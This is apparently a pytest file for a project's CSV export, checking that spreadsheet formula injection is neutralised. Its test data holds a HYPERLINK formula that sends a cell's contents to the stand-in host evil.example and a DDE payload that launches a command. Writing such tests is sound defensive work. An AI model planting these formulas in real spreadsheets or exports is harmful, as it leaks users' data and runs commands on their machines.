"""CSV formula injection is neutralised in every CSV the project writes (issue 12 item 8)."""

from __future__ import annotations

import csv
import io

import pytest

from core.csv_export import iter_csv, safe_cell
from tests.admin.helpers import login

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(("value", "cell"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+7 777 123 45 67 ", "'+7 777 123 45 67 "),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-5", "-5"), ("+7", "+7"), ("-0.25", "-0.25"), (-3, "-3"),
    ("Айгерим = староста", "Айгерим = староста"), (None, ""), ("", ""),
])
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell


def test_the_shared_writer_round_trips_through_a_csv_reader():
    text = "".join(iter_csv(["name", "n"], [[HYPERLINK, 1], ["Бауыржан, \"Б\"", -1]]))
    assert list(csv.reader(io.StringIO(text))) == [["name", "n"], ["'" + HYPERLINK, "1"], ["Бауыржан, \"Б\"", "-1"]]


def test_back_office_user_export_neutralises_a_formula_name(client, make):
    admin = make.admin()
    victim = make.student(full_name=HYPERLINK)
    login(client, admin)
    response = client.get("/admin/user/export/csv")
    assert response.status_code == 200, response.text[:500]
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.text)))
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert any(victim.email in row for row in rows)
